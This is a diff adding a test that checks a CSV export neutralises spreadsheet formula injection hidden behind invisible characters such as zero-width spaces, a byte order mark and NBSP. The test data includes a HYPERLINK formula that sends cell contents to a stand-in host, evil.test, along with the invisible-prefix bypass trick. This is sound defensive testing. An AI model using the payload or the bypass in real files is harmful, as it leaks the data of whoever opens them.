@@ -188,6 +188,21 @@ def test_formula_cells_are_neutralised_in_the_csv_only(stack):
     assert result["data"]["title"] == hostile  # JSON carries the data as it is
 
 
+def test_formulas_behind_invisible_characters_are_neutralised_in_the_csv(stack):
+    """A zero-width space, a joiner, a word joiner, a byte order mark or NBSP in front of the
+    formula: a spreadsheet may drop them and run it all the same."""
+    who = customer(stack)
+    prefixes = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\xa0", "\u200b \ufeff"]
+    hostile = [f'{prefix}=HYPERLINK("http://evil.test/?leak="&A1,"Click")' for prefix in prefixes]
+    collection_id = stored(stack, who, [
+        outcome(n, {"title": text, "text": f"{text[0]}@SUM(1+1)", "language": "en",
+                    "links": [], "metadata": None}) for n, text in enumerate(hostile)])
+    header, *table = rows(export(who, collection_id, "csv"))
+    cells = [dict(zip(header, line, strict=True)) for line in table]
+    assert [row["title"] for row in cells] == ["'" + text for text in hostile]
+    assert [row["text"] for row in cells] == [f"'{text[0]}@SUM(1+1)" for text in hostile]
+
+
 def test_a_large_export_streams_every_row(stack):
     who = customer(stack, credits=5000)
     count = 3000
